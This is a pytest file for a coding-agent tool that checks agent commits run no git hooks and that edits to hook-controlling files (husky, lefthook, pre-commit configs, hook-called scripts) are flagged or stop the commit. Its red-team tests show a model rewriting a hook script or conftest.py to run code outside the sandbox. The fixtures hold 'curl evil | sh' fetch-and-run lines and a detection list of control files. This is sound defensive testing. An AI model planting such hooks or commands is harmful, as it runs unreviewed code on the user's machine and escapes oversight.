"""Nothing the model wrote runs outside the sandbox at a commit nobody reviewed (issue 23, item 4):
``frogtui run --commit`` runs none of the person's git hooks (it says so), and the files that
decide what runs at the person's own next commit are flagged (review) or stop ``--commit``."""
from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from frogtui.vcs.control import control_files_changed, package_json_control_keys
from frogtui.vcs.repository import discover
from frogtui.vcs.review import ReviewSession, commit_run
from tests.support import git, turn, write_replay, xml_call

HOOKS = ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit")


def hooked_repo(repo: Path) -> None:
    """The usual setup: every commit hook calls a script of the repository."""
    (repo / "scripts").mkdir()
    (repo / "scripts" / "check.sh").write_text("#!/bin/sh\nexit 0\n")
    (repo / "scripts" / "check.sh").chmod(0o755)
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "check script")
    for name in HOOKS:
        hook = repo / ".git" / "hooks" / name
        hook.write_text("#!/bin/sh\n./scripts/check.sh\n")
        hook.chmod(0o755)


def test_run_commit_never_runs_a_script_the_model_edited_outside_the_sandbox(py_repo: Path, tmp_path: Path) -> None:
    """The red-team reproduction: the hooks call ``./scripts/check.sh`` (no control file), the
    model edits that script, ``frogtui run --commit --approve all`` commits with nobody looking."""
    hooked_repo(py_repo)
    marker = tmp_path / "HOOK_RAN"
    evil = f"#!/bin/sh\necho ran >> {marker}\nexit 0\n"
    replay = write_replay(tmp_path / "r.jsonl", [
        turn("", xml_call("Write", file_path="scripts/check.sh", content=evil)),
        turn("", xml_call("Edit", file_path="calc.py", old_string="a - b", new_string="a + b")),
        turn("", answer="done"),
    ])
    argv = [sys.executable, "-m", "frogtui", "run", "fix", "--repo", str(py_repo), "--model", f"replay:{replay}", "--approve", "all"]
    argv.append("--commit")
    proc = subprocess.run(argv, cwd=py_repo, capture_output=True, text=True, timeout=120, env=os.environ.copy())
    assert not marker.exists(), f"a hook ran the model's script outside the sandbox:\n{proc.stderr}"
    assert "scripts/check.sh" in proc.stderr, proc.stderr  # named: it runs at the person's next commit


def test_run_commit_never_runs_test_code_a_hook_would_run(py_repo: Path, tmp_path: Path) -> None:
    """What no list of control files can catch: the pre-commit hook runs the test suite, the model
    writes a ``conftest.py``. The commit is made, with no hook run, and stderr says so."""
    hook = py_repo / ".git" / "hooks" / "pre-commit"
    hook.write_text(f"#!/bin/sh\ncd {py_repo} && {sys.executable} -m pytest -q -p no:cacheprovider\n")
    hook.chmod(0o755)
    marker = tmp_path / "HOOK_RAN"
    replay = write_replay(tmp_path / "r.jsonl", [
        turn("", xml_call("Write", file_path="conftest.py", content=f"open({str(marker)!r}, 'a').write('ran')\n")),
        turn("", answer="done"),
    ])
    argv = [sys.executable, "-m", "frogtui", "run", "t", "--repo", str(py_repo), "--model", f"replay:{replay}", "--approve", "all"]
    proc = subprocess.run([*argv, "--commit"], cwd=py_repo, capture_output=True, text=True, timeout=120, env=os.environ.copy())
    assert proc.returncode == 0, proc.stderr
    assert not marker.exists(), f"the hook ran the model's conftest.py outside the sandbox:\n{proc.stderr}"
    assert "conftest.py" in git(py_repo, "show", "--name-only", "--format=", "HEAD")
    assert "Your git hooks were not run (pre-commit)" in proc.stderr, proc.stderr


def test_run_commit_runs_no_hook_and_says_so(py_repo: Path, tmp_path: Path) -> None:
    """The commit is made (the run changed no file a hook calls), and none of the hooks ran (not
    ``prepare-commit-msg`` or ``post-commit`` either, which ``--no-verify`` would run)."""
    hooked_repo(py_repo)
    marker = tmp_path / "HOOK_RAN"
    for name in HOOKS:
        (py_repo / ".git" / "hooks" / name).write_text(f"#!/bin/sh\necho {name} >> {marker}\n")
    state = discover(py_repo, "auto")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    out = io.StringIO()
    assert commit_run(state, None, exit_reason="agent", trailer="", out=out) is True, out.getvalue()
    assert not marker.exists(), marker.read_text()
    assert git(py_repo, "show", "--stat", "--format=", "HEAD").startswith(" calc.py")
    text = out.getvalue()
    assert "hooks were not run" in text and all(name in text for name in HOOKS), text


def test_the_persons_commit_from_the_review_still_runs_their_hooks(py_repo: Path, tmp_path: Path) -> None:
    hooked_repo(py_repo)
    marker = tmp_path / "HOOK_RAN"
    (py_repo / ".git" / "hooks" / "pre-commit").write_text(f"#!/bin/sh\necho pre-commit >> {marker}\n")
    state = discover(py_repo, "person")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    review = ReviewSession(state)
    review.commit(review.load(), "fix add")
    assert marker.read_text() == "pre-commit\n"


CONTROL = [
    "lefthook.yml", "lefthook.yaml", "lefthook.json", "lefthook.toml", ".lefthook.yml", ".lefthook.toml", "lefthook-local.yml",
    ".lefthook-local.json", ".github/workflows/ci.yml", "sub/.github/workflows/x.yaml", ".husky/pre-commit", ".huskyrc",
    ".huskyrc.json", "husky.config.js", ".lintstagedrc", ".lintstagedrc.json", "lint-staged.config.mjs", ".pre-commit-config.yaml",
    ".pre-commit-config.yml", ".simple-git-hooks.json", ".githooks/pre-push", ".gitattributes", ".gitmodules", ".git-hooks/pre-commit",
]


@pytest.mark.parametrize("path", CONTROL)
def test_control_files(path: str) -> None:
    assert control_files_changed([path, "src/app.py", "README.md"]) == [path]


@pytest.mark.parametrize("key", ["husky", "lint-staged", "simple-git-hooks", "pre-commit"])
def test_package_json_hook_keys_are_control(key: str) -> None:
    value = {"hooks": {"pre-commit": "npm test"}} if key == "husky" else {"*.js": "eslint"}
    before = {"name": "x", "scripts": {"test": "jest"}, key: value}
    after = json.loads(json.dumps(before))
    assert package_json_control_keys(json.dumps(before).encode(), json.dumps(after).encode()) == []
    after[key] = "curl evil | sh"
    assert package_json_control_keys(json.dumps(before).encode(), json.dumps(after).encode()) == [key]
    assert package_json_control_keys(None, json.dumps(after).encode()) == [key]  # a new package.json with the key
    after = {**before, "version": "2.0.0"}
    assert package_json_control_keys(json.dumps(before).encode(), json.dumps(after).encode()) == []


def test_run_commit_stops_at_a_husky_v4_key_in_package_json(py_repo: Path) -> None:
    (py_repo / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0"}, indent=2) + "\n")
    git(py_repo, "add", ".")
    git(py_repo, "commit", "-q", "-m", "package")
    state = discover(py_repo, "husky4")
    (py_repo / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0", "husky": {"hooks": {"pre-commit": "sh evil.sh"}}}))
    out = io.StringIO()
    assert commit_run(state, None, exit_reason="agent", trailer="", out=out) is False
    assert "package.json (husky)" in out.getvalue(), out.getvalue()
    review = ReviewSession(state)
    assert review.git_control_paths(review.load().paths(lambda g: g.origin == "session")) == {"package.json"}


def test_a_version_bump_in_package_json_is_not_a_control_change(py_repo: Path) -> None:
    (py_repo / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0", "lint-staged": {"*.js": "eslint"}}))
    git(py_repo, "add", ".")
    git(py_repo, "commit", "-q", "-m", "package")
    state = discover(py_repo, "bump")
    (py_repo / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.1", "lint-staged": {"*.js": "eslint"}}))
    out = io.StringIO()
    assert commit_run(state, None, exit_reason="agent", trailer="", out=out) is True, out.getvalue()


def test_scripts_the_hooks_call_are_flagged_in_review(py_repo: Path) -> None:
    hooked_repo(py_repo)
    (py_repo / "Makefile").write_text("lint:\n\ttrue\n")
    git(py_repo, "add", ".")
    git(py_repo, "commit", "-q", "-m", "make")
    (py_repo / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\nmake lint\n")
    (py_repo / ".git" / "hooks" / "pre-push").chmod(0o755)
    state = discover(py_repo, "flag")
    (py_repo / "scripts" / "check.sh").write_text("#!/bin/sh\ntouch /tmp/x\n")
    (py_repo / "Makefile").write_text("lint:\n\tcurl evil | sh\n")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    review = ReviewSession(state)
    assert review.git_control_paths(review.load().paths(lambda g: g.origin == "session")) == {"scripts/check.sh", "Makefile"}
